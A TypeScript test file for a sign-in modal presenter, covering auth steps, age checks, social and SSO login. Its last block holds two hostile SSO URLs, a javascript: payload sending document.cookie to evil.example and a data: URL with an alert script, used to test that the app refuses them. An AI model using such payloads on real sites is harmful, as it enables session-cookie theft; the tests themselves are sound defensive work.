import { describe, expect, it, vi } from 'vitest';
import { ApiError } from '../../../../src/application/errors/ApiError';
import * as ports from '../../../../src/application/ports';
import { type KeyValueStore, STORAGE_KEYS } from '../../../../src/application/ports/KeyValueStore';
import { AuthError } from '../../../../src/application/errors/AuthError';
import type { AuthType } from '../../../../src/domain/network/NetworkCustomization';
import { authApp, TODAY_ISO, flush, type AuthApp, type AuthAppOptions } from './authModalHarness';
import { cookieConsentKeys } from '../../../../src/application/storage/cookieConsentStorage';

const GOOD_PASSWORD = 'hopper-1!';

describe('AuthModalPresenter: where the modal opens', () => {
  it.each<[AuthType, string]>([
    ['classic', 'cta'],
    ['custom_sso', 'custom_sso'],
    ['otp_first', 'otp_first'],
    ['private', 'private'],
  ])('a %s network opens on the %s step', (authType, step) => {
    const modal = authApp({ auth: { authType, providers: { customSso: { authorizeUrl: 'https://sso.example/authorize', clientId: 'c' } } } }).open();
    expect(modal.flow.step).toBe(step);
    expect(modal.flow.open).toBe(true);
  });

  it('a private network opens on its login-with-email view', () => {
    const modal = authApp({ auth: { authType: 'private' } }).open();
    expect(modal.flow.privateView).toBe('login-with-email');
    expect(modal.header).toBe('log in to Sample Network');
  });

  it.each([
    { authedBefore: false, mode: 'sign-up', header: 'sign up to Sample Network' },
    { authedBefore: true, mode: 'sign-in', header: 'log in to Sample Network' },
  ])('with authed-before=$authedBefore the cta is in $mode mode', ({ authedBefore, mode, header }) => {
    const modal = authApp({ authedBefore }).open();
    expect(modal.flow.mode).toBe(mode);
    expect(modal.header).toBe(header);
  });

  it('an explicit mode wins over the cookie (/register with authed-before)', () => {
    const modal = authApp({ authedBefore: true }).openForm({ mode: 'sign-up' });
    expect(modal.flow.step).toBe('sign-up');
    expect(modal.header).toBe('sign up to Sample Network');
  });

  it('the header follows the footer link switching modes', () => {
    const modal = authApp({ network: { name: 'Harbour Runners' } }).open();
    expect(modal.header).toBe('sign up to Harbour Runners');
    expect(modal.canSwitchMode).toBe(true);
    modal.modeSwitched('sign-in');
    expect(modal.header).toBe('log in to Harbour Runners');
    expect(modal.flow.step).toBe('cta');
  });

  it('the footer link names the other mode, and is gone on the birthdate step and once a user session exists', async () => {
    const app = authApp({ network: { minAge: 18 } });
    const modal = app.open();
    expect(modal.modeSwitch).toEqual({ mode: 'sign-in', label: 'Already a member? Log in' });
    modal.modeSwitched('sign-in');
    expect(modal.modeSwitch).toEqual({ mode: 'sign-up', label: 'New here? Sign up' });
    modal.modeSwitched('sign-up');
    modal.continueClicked();
    expect(modal.flow.step).toBe('birthdate');
    expect(modal.modeSwitch).toBeNull();
  });

  it.each([
    { smsOtp: true, label: 'use phone or e-mail' },
    { smsOtp: false, label: 'use e-mail' },
  ])('with smsOtp=$smsOtp the cta button reads "$label"', ({ smsOtp, label }) => {
    expect(authApp({ auth: { smsOtp } }).open().ctaLabel).toBe(label);
  });

  it.each([
    { smsOtp: true, tabs: ['phone', 'email'], tab: 'phone' },
    { smsOtp: false, tabs: ['email'], tab: 'email' },
  ])('smsOtp=$smsOtp shows the tabs $tabs with $tab chosen', ({ smsOtp, tabs, tab }) => {
    const modal = authApp({ auth: { smsOtp } }).open();
    modal.continueClicked();
    expect(modal.flow.step).toBe('sign-up');
    expect(modal.tabs).toEqual(tabs);
    expect(modal.flow.tab).toBe(tab);
    expect(modal.tabsEnabled).toBe(true);
  });

  it('a tab that is not shown cannot be chosen; a shown one can', () => {
    const emailOnly = authApp({ auth: { smsOtp: false } }).openForm({ mode: 'sign-in' });
    emailOnly.tabChosen('phone');
    expect(emailOnly.flow.tab).toBe('email');

    const both = authApp({ auth: { smsOtp: true } }).openForm({ mode: 'sign-in' });
    both.tabChosen('email');
    expect(both.flow.tab).toBe('email');
  });

  it('lists the social buttons the network enables', () => {
    expect(authApp({ auth: { google: true, facebook: true } }).open().socialProviders).toEqual(['google', 'facebook']);
    expect(authApp({ auth: { facebook: true } }).open().socialProviders).toEqual(['facebook']);
    expect(authApp().open().socialProviders).toEqual([]);
  });

  it.each([
    { desktop: true, cover: false, width: 443 },
    { desktop: true, cover: true, width: 581 },
    { desktop: false, cover: true, width: 'full' },
  ])('is $width wide on desktop=$desktop with cover=$cover', ({ desktop, cover, width }) => {
    const authCover = cover ? { mediaType: 'image' as const, url: '/cover.jpg', thumbnails: { small: 's', medium: 'm', large: 'l' } } : null;
    expect(authApp({ auth: { authCover } }).open().width(desktop)).toBe(width);
  });

  it("the cover video starts muted; the toggle is remembered (cover-muted) once preference cookies are accepted", () => {
    const app = authApp();
    app.get<KeyValueStore>(ports.LOCAL_STORE).set(cookieConsentKeys(app.session.networkId ?? '').current, { consentId: 'c1', givenAt: '2026-11-23T10:00:00Z', categories: ['necessary', 'preferences'], revision: '1' });
    const modal = app.open();
    expect(modal.coverMuted).toBe(true);
    modal.coverMuteToggled();
    expect(modal.coverMuted).toBe(false);
    expect(app.cookies.get('cover-muted')).toBe('false');
    app.controller.close();
    expect(app.open().coverMuted).toBe(false);
  });

  it('a private network is 732 px wide on desktop', () => {
    expect(authApp({ auth: { authType: 'private' } }).open().width(true)).toBe(732);
  });
});

describe('AuthModalPresenter: cta and birthdate', () => {
  it.each([
    { minAge: 18, authedBefore: false, step: 'birthdate' },
    { minAge: null, authedBefore: false, step: 'sign-up' },
    { minAge: 18, authedBefore: true, step: 'sign-in' },
    { minAge: 0, authedBefore: false, step: 'sign-up' },
  ])('continue with minAge=$minAge, authed-before=$authedBefore goes to $step', ({ minAge, authedBefore, step }) => {
    const modal = authApp({ network: { minAge }, authedBefore }).open();
    modal.continueClicked();
    expect(modal.flow.step).toBe(step);
  });

  it('a forced sign-up skips the birthdate', () => {
    const modal = authApp({ network: { minAge: 18 } }).open({ forced: true });
    modal.continueClicked();
    expect(modal.flow.step).toBe('sign-up');
  });

  it('the birthdate step offers dates from 1 January 1925 to today minus the minimum age', () => {
    const modal = authApp({ network: { minAge: 18 } }).open();
    modal.continueClicked();
    expect(modal.birthdate.bounds).toEqual({ min: '1925-01-01', max: '2007-06-15' });
  });

  it.each([
    { value: '', error: 'This field is required.' },
    { value: '2010-03-01', error: 'Only users old enough are allowed (at least 18 years old).' },
    { value: '2007-06-16', error: 'Only users old enough are allowed (at least 18 years old).' },
    { value: '2025-06-16', error: 'The date cannot be later than today.' },
    { value: '1924-12-31', error: 'The date cannot be before 1 January 1925.' },
    { value: '2001-02-30', error: 'Type a valid date.' },
  ])('rejects the birthday "$value": $error', async ({ value, error }) => {
    const app = authApp({ network: { minAge: 18 } });
    const modal = app.open();
    modal.continueClicked();
    modal.birthdate.valueTyped(value);
    await modal.birthdate.continueClicked();
    expect(modal.birthdate.error).toBe(error);
    expect(modal.flow.step).toBe('birthdate');
    expect(app.heldBirthdate()).toBeNull();
  });

  it.each(['2007-06-15', '1925-01-01'])('accepts the boundary birthday %s and goes on to the sign-up form', async (value) => {
    const app = authApp({ network: { minAge: 18 } });
    const modal = app.open();
    modal.continueClicked();
    modal.birthdate.valueTyped(value);
    await modal.birthdate.continueClicked();
    expect(modal.birthdate.error).toBe('');
    expect(modal.flow.step).toBe('sign-up');
    expect(modal.flow.mode).toBe('sign-up');
    // Held until the account exists (spec §4): nothing was sent yet.
    expect(app.heldBirthdate()).toBe(value);
    expect(app.memberships.callsOf('update')).toEqual([]);
  });

  it('typing clears the error', async () => {
    const modal = authApp({ network: { minAge: 18 } }).open();
    modal.continueClicked();
    modal.birthdate.valueTyped(TODAY_ISO);
    await modal.birthdate.continueClicked();
    expect(modal.birthdate.error).not.toBe('');
    modal.birthdate.valueTyped('1990-01-01');
    expect(modal.birthdate.error).toBe('');
  });

  it('back from the birthdate (no user session) returns to the cta', () => {
    const modal = authApp({ network: { minAge: 18 } }).open();
    modal.continueClicked();
    expect(modal.canGoBack).toBe(true);
    modal.backClicked();
    expect(modal.flow.step).toBe('cta');
    expect(modal.canGoBack).toBe(false);
  });

  it('once the birthday is known, continue goes straight to the form, and back from it to the cta', async () => {
    const modal = authApp({ network: { minAge: 18 } }).open();
    modal.continueClicked();
    modal.birthdate.valueTyped('1990-05-01');
    await modal.birthdate.continueClicked();
    expect(modal.canGoBack).toBe(true);
    modal.backClicked();
    expect(modal.flow.step).toBe('cta');
    modal.continueClicked();
    expect(modal.flow.step).toBe('sign-up');
  });

  it('switching to sign-in on the birthdate step shows the sign-in form', () => {
    const modal = authApp({ network: { minAge: 18 } }).open();
    modal.continueClicked();
    modal.modeSwitched('sign-in');
    expect(modal.flow.step).toBe('sign-in');
    modal.modeSwitched('sign-up');
    expect(modal.flow.step).toBe('birthdate');
  });

  it('back from the sign-in form returns to the cta', () => {
    const modal = authApp({ auth: { smsOtp: true }, authedBefore: true }).open();
    modal.continueClicked();
    expect(modal.flow.step).toBe('sign-in');
    expect(modal.canGoBack).toBe(true);
    modal.backClicked();
    expect(modal.flow.step).toBe('cta');
  });
});

describe('AuthModalPresenter: closing', () => {
  it('closing an ordinary dialog closes the controller and asks for nothing more', () => {
    const app = authApp();
    const modal = app.open();
    expect(modal.closable).toBe(true);
    modal.closeRequested();
    expect(modal.flow.open).toBe(false);
    expect(app.controller.isOpen).toBe(false);
    expect(app.completeProfileRequests()).toBe(0);
  });

  it('a fixed dialog ignores closeRequested', () => {
    const app = authApp({ auth: { authType: 'private' } });
    const modal = app.open({ fixed: true });
    expect(modal.closable).toBe(false);
    modal.closeRequested();
    expect(modal.flow.open).toBe(true);
    expect(app.controller.isOpen).toBe(true);
  });

  it('a fixed dialog closes when the app forces it (spec §4 "not closable unless forced"), even asked before it was shown', () => {
    const app = authApp({ auth: { authType: 'private' } });
    const modal = app.open({ fixed: true });
    app.controller.forceClose();
    expect(modal.flow.open).toBe(false);
    expect(app.controller.isOpen).toBe(false);
    // A guest has no profile to complete.
    expect(app.completeProfileRequests()).toBe(0);
  });

  it('a fixed classic dialog still moves between its steps', () => {
    const app = authApp();
    const modal = app.open({ fixed: true });
    modal.continueClicked();
    modal.closeRequested();
    expect(modal.flow.step).toBe('sign-up');
    expect(app.controller.isOpen).toBe(true);
  });
});

/**
 * Regressions: each of these failed against fc9ce7e (the presenters as first written) and passes
 * since e13e76d. The comments say what went wrong then.
 */
describe('AuthModalPresenter regressions', () => {
  it("private sign-up: 'Login' on the has_membership popup moves to login-with-email with the same e-mail", async () => {
    const app = authApp({
      network: { accessType: 'private', private: true },
      auth: { authType: 'private' },
      accounts: [{ email: 'linus@example.com', password: 'whatever', member: true }],
    });
    const modal = app.open({ fixed: true });
    await flush(app);
    modal.privateViewChosen('signup');
    const form = modal.privateSignUp;
    for (const [field, value] of [['email', 'linus@example.com'], ['password', 'penguin'], ['passwordConfirmation', 'penguin'], ['firstName', 'Linus'], ['lastName', 'Torvalds'], ['invitationCode', 'WELCOME']] as const) {
      form.fieldTyped(field, value);
    }
    await form.submitted();
    expect(form.conflict).toBe('has_membership');
    modal.conflictLoginClicked();
    expect(modal.flow.privateView).toBe('login-with-email');
    expect(form.conflict).toBeNull();
    // Spec §8: the e-mail is remembered (conflictLoginClicked used to read only the standard sign-up form).
    expect(modal.emailSignIn.email).toBe('linus@example.com');
  });

  it('e-mail sign-up: the forgot-password link of the invalid_credentials popup carries the typed e-mail', async () => {
    const app = authApp({ accounts: [{ email: 'taken@example.com', password: 'other-1!x', member: false }] });
    const modal = app.openForm({ mode: 'sign-up' });
    modal.emailSignUp.emailTyped('taken@example.com');
    modal.emailSignUp.passwordTyped(GOOD_PASSWORD);
    await modal.emailSignUp.submitted();
    expect(modal.emailSignUp.conflict).toBe('invalid_credentials');
    // What the popup's link does (AuthDialog.tsx onForgotPassword).
    modal.emailSignUp.conflictDismissed();
    modal.forgotPasswordOpened();
    expect(modal.forgotPasswordOpen).toBe(true);
    // forgotPasswordOpened used to seed the dialog from the sign-in form only: '' here.
    expect(modal.forgotPassword.email).toBe('taken@example.com');
  });

  it("after 'wrong e-mail', signing up again within 60 s requests a code for the new address", async () => {
    const app = authApp({ accounts: [], member: { email: 'first@example.com', emailConfirmed: false } });
    const modal = app.openForm({ mode: 'sign-up' });
    modal.emailSignUp.emailTyped('first@example.com');
    modal.emailSignUp.passwordTyped(GOOD_PASSWORD);
    await modal.emailSignUp.submitted();
    await vi.waitFor(() => expect(app.accounts.callsOf('requestEmailCode')).toHaveLength(1));
    modal.wrongEmailClicked();
    expect(modal.flow.step).toBe('cta');

    // The second account, with the right address, a few seconds later.
    app.clock.advance(5000);
    app.memberships.membership = { ...app.memberships.membership!, id: 'mem-2', email: 'second@example.com' };
    modal.continueClicked();
    modal.emailSignUp.emailTyped('second@example.com');
    await modal.emailSignUp.submitted();
    expect(modal.flow.emailStage).toBe('confirm');
    await flush(app);
    // Spec §4: a code is requested on entry. It used to be skipped: the first account's countdown
    // (55 s left) was never reset, so the new address got no code.
    expect(app.accounts.callsOf('requestEmailCode')).toEqual([['mem-1'], ['mem-2']]);
  });

  it("after 'wrong e-mail' on a network with a minimum age, the next sign-up asks the birthdate again", async () => {
    const app = authApp({ network: { minAge: 18 }, accounts: [], member: { email: 'first@example.com', emailConfirmed: false, birthday: null } });
    const modal = app.open();
    modal.continueClicked();
    modal.birthdate.valueTyped('1990-05-01');
    await modal.birthdate.continueClicked();
    modal.emailSignUp.emailTyped('first@example.com');
    modal.emailSignUp.passwordTyped(GOOD_PASSWORD);
    await modal.emailSignUp.submitted();
    // The held birthday went to the first account, and the holder is empty again.
    expect(app.memberships.callsOf('update')).toEqual([['mem-1', { birthday: '1990-05-01' }]]);
    expect(app.heldBirthdate()).toBeNull();
    modal.wrongEmailClicked();

    modal.continueClicked();
    // Spec §4: sign-up with a minimum age and no known birthdate goes to birthdate first. The modal's
    // `birthdateKnown` used to stay true from before, so the second account was made without a birthday.
    expect(modal.flow.step).toBe('birthdate');
  });

  it('a failed e-mail code request does not block asking again for 60 s', async () => {
    const app = authApp({ accounts: [], member: { email: 'grace@example.com', emailConfirmed: false } });
    app.accounts.failNext('requestEmailCode', new ApiError(503, 'MailerDown', 'The mailer is not available.'));
    const modal = app.openForm({ mode: 'sign-up' });
    modal.emailSignUp.emailTyped('grace@example.com');
    modal.emailSignUp.passwordTyped(GOOD_PASSWORD);
    await modal.emailSignUp.submitted();
    await vi.waitFor(() => expect(app.notifier.messages('error')).toEqual(['The mailer is not available.']));
    // No code was sent, so 'send the code again' must be usable at once (as in the phone and
    // forgot-password flows, the countdown starts once the server agreed; it used to start before).
    expect(modal.emailConfirm.secondsLeft).toBe(0);
    await modal.emailConfirm.codeRequested();
    expect(app.accounts.callsOf('requestEmailCode')).toHaveLength(2);
  });
});

const GOOGLE = { google: true, facebook: true, providers: { google: { clientId: 'google-client' }, facebook: { appId: 'facebook-app' } } };

function withSocial(options: AuthAppOptions = {}) {
  const app = authApp({ ...options, auth: { ...GOOGLE, ...options.auth } });
  return { app, modal: app.open() };
}

describe('social sign-in from the cta', () => {
  it('in sign-in mode the provider window opens at once and the member is signed in', async () => {
    const { app, modal } = withSocial({ authedBefore: true });
    modal.socialClicked('facebook');
    expect(modal.socialBusy).toBe('facebook');
    await vi.waitFor(() => expect(modal.flow.open).toBe(false));
    expect(app.identity.callsOf('authorize')).toEqual([['facebook']]);
    expect(app.auth.callsOf('withProvider')).toEqual([['facebook', 'facebook-access-token', undefined]]);
    expect(app.published).toEqual(['authenticated', 'completeProfileRequested']);
    expect(modal.socialBusy).toBeNull();
  });

  it('sign-up with a minimum age asks the birthdate first, then starts the remembered provider', async () => {
    const { app, modal } = withSocial({ network: { minAge: 18 }, member: { birthday: null } });
    modal.socialClicked('google');
    expect(modal.flow).toMatchObject({ step: 'birthdate', pendingSocial: 'google' });
    expect(app.identity.callsOf('authorize')).toEqual([]);
    modal.birthdate.valueTyped('2001-09-09');
    await modal.birthdate.continueClicked();
    // Back on the buttons under the provider's window.
    expect(modal.flow.step).toBe('cta');
    await vi.waitFor(() => expect(modal.flow.open).toBe(false));
    expect(app.identity.callsOf('authorize')).toEqual([['google']]);
    expect(app.memberships.callsOf('update')).toEqual([['mem-1', { birthday: '2001-09-09' }]]);
    expect(app.session.membership?.birthday).toBe('2001-09-09');
    expect(app.completeProfileRequests()).toBe(1);
  });

  it('a birthday too young stops the social sign-up on the birthdate step', async () => {
    const { app, modal } = withSocial({ network: { minAge: 18 } });
    modal.socialClicked('google');
    modal.birthdate.valueTyped('2010-01-01');
    await modal.birthdate.continueClicked();
    expect(modal.birthdate.error).toBe('Only users old enough are allowed (at least 18 years old).');
    expect(modal.flow.step).toBe('birthdate');
    expect(app.identity.callsOf('authorize')).toEqual([]);
  });

  it('switching to sign-in on that birthdate step forgets the provider', () => {
    const { app, modal } = withSocial({ network: { minAge: 18 } });
    modal.socialClicked('google');
    modal.modeSwitched('sign-in');
    expect(modal.flow).toMatchObject({ step: 'cta', mode: 'sign-in', pendingSocial: null });
    expect(app.identity.callsOf('authorize')).toEqual([]);
  });

  it('a closed provider window stops the busy state with no message', async () => {
    const { app, modal } = withSocial({ authedBefore: true });
    app.identity.queueAnswer(null);
    modal.socialClicked('google');
    expect(modal.socialBusy).toBe('google');
    await vi.waitFor(() => expect(modal.socialBusy).toBeNull());
    expect(app.notifier.toasts).toEqual([]);
    expect(app.auth.callsOf('withProvider')).toEqual([]);
    expect(modal.flow).toMatchObject({ open: true, step: 'cta' });
    expect(app.published).toEqual([]);
  });

  it('a server error after the provider is an error toast with its message', async () => {
    const { app, modal } = withSocial({ authedBefore: true });
    app.auth.queueProvider(new ApiError(403, 'ProviderRejected', 'This Google account cannot join.'));
    modal.socialClicked('google');
    await vi.waitFor(() => expect(modal.socialBusy).toBeNull());
    expect(app.notifier.messages('error')).toEqual(['This Google account cannot join.']);
    expect(modal.flow.open).toBe(true);
  });

  it('sign-in of an account without a birthday on a network with a minimum age asks it, with no back', async () => {
    const { app, modal } = withSocial({ authedBefore: true, network: { minAge: 18 }, member: { birthday: null } });
    modal.socialClicked('google');
    await vi.waitFor(() => expect(modal.flow.step).toBe('birthdate'));
    expect(modal.flow.hasUserSession).toBe(true);
    expect(modal.canGoBack).toBe(false);
    expect(app.completeProfileRequests()).toBe(0);
    modal.backClicked();
    expect(modal.flow.step).toBe('birthdate');
    modal.birthdate.valueTyped('1980-01-01');
    await modal.birthdate.continueClicked();
    expect(app.memberships.callsOf('update')).toEqual([['mem-1', { birthday: '1980-01-01' }]]);
    expect(modal.flow.open).toBe(false);
    expect(app.completeProfileRequests()).toBe(1);
  });

  it('a provider whose address is not safe is an error toast saying so, and signs nobody in', async () => {
    const { app, modal } = withSocial({ authedBefore: true });
    app.identity.queueAnswer(AuthError.unsafeUrl());
    modal.socialClicked('google');
    await vi.waitFor(() => expect(modal.socialBusy).toBeNull());
    expect(app.notifier.messages('error')).toEqual(["This sign-in provider's address is not safe, so the app will not open it."]);
    expect(app.auth.callsOf('withProvider')).toEqual([]);
    expect(modal.flow).toMatchObject({ open: true, step: 'cta' });
  });

  it('a second click while a provider is busy is ignored, and unmounting stops it silently', async () => {
    const { app, modal } = withSocial({ authedBefore: true });
    app.auth.queueProvider({ kind: 'exchange', exchangeToken: 'ex-1' });
    app.auth.queueExchange({ kind: 'pending' });
    modal.socialClicked('google');
    await vi.waitFor(() => expect(app.clock.pendingDelays()).toEqual([1000]));
    modal.socialClicked('facebook');
    expect(app.identity.callsOf('authorize')).toEqual([['google']]);
    app.unmount(modal);
    await vi.waitFor(() => expect(modal.socialBusy).toBeNull());
    await app.clock.advanceAsync(10_000);
    expect(app.auth.callsOf('exchange')).toHaveLength(1);
    expect(app.notifier.toasts).toEqual([]);
    expect(app.session.isSignedIn).toBe(false);
  });
});

const CUSTOM_SSO = { authType: 'custom_sso' as const, providers: { customSso: { authorizeUrl: 'https://sso.example/authorize', clientId: 'client-1', label: 'Staff login' } } };

function departure(app: AuthApp): URL {
  const [url] = app.external.departures;
  if (url === undefined) throw new Error('the app did not leave');
  return new URL(url);
}

describe('custom SSO and SSO buttons', () => {
  it("'continue to log in' leaves for the authorize URL with a state kept in the session store", () => {
    const app = authApp({ auth: CUSTOM_SSO });
    const modal = app.open({ returnPath: '/contents/7' });
    expect(modal.flow.step).toBe('custom_sso');
    expect(modal.canSwitchMode).toBe(false);
    expect(modal.customSso?.label).toBe('Staff login');
    modal.continueClicked();
    expect(app.external.departures).toHaveLength(1);
    const url = departure(app);
    expect(`${url.origin}${url.pathname}`).toBe('https://sso.example/authorize');
    expect(Object.fromEntries(url.searchParams)).toEqual({
      client_id: 'client-1',
      redirect_uri: 'https://app.example/sample/auth/custom-sso',
      response_type: 'token',
      state: 'random-1',
    });
    expect(app.sessionStore.get(STORAGE_KEYS.ssoState)).toEqual({ state: 'random-1', provider: 'custom-sso', returnPath: '/contents/7' });
  });

  it('an SSO button on the cta leaves for its provider with its callback path', () => {
    const app = authApp({ auth: { providers: { yTech: { authorizeUrl: 'https://ytech.example/oauth?tenant=9', clientId: 'yt' } } } });
    const modal = app.open();
    expect(modal.ssoButtons.map(({ provider, label }) => ({ provider, label }))).toEqual([{ provider: 'y-tech', label: 'Y-Tech' }]);
    const [button] = modal.ssoButtons;
    if (!button) throw new Error('no SSO button');
    modal.ssoClicked(button);
    const url = departure(app);
    expect(url.searchParams.get('tenant')).toBe('9');
    expect(url.searchParams.get('redirect_uri')).toBe('https://app.example/sample/auth/y-tech/callback');
    expect(url.searchParams.get('state')).toBe('random-1');
  });
});

describe('an SSO authorize URL that is not safe', () => {
  const UNSAFE = 'javascript:fetch(`//evil.example/?c=${document.cookie}`)';

  it("'continue to log in' opens nothing, keeps no state and says why in an error toast", () => {
    const app = authApp({ auth: { ...CUSTOM_SSO, providers: { customSso: { authorizeUrl: UNSAFE, clientId: 'client-1' } } } });
    const modal = app.open({ returnPath: '/contents/7' });
    modal.continueClicked();
    expect(app.external.departures).toEqual([]);
    expect(app.sessionStore.get(STORAGE_KEYS.ssoState)).toBeNull();
    expect(app.notifier.messages('error')).toEqual(["This sign-in provider's address is not safe, so the app will not open it."]);
    expect(modal.flow).toMatchObject({ open: true, step: 'custom_sso' });
  });

  it('an SSO button does the same, in Italian for an Italian visitor', async () => {
    const app = authApp({ auth: { providers: { cvespa: { authorizeUrl: 'data:text/html,<script>alert(1)</script>', clientId: 'cv' } } } });
    await app.i18n.localeChosen('it');
    const modal = app.open();
    const [button] = modal.ssoButtons;
    if (!button) throw new Error('no SSO button');
    modal.ssoClicked(button);
    expect(app.external.departures).toEqual([]);
    expect(app.notifier.messages('error')).toEqual(['L’indirizzo di questo servizio di accesso non è sicuro, quindi l’app non lo aprirà.']);
  });
});
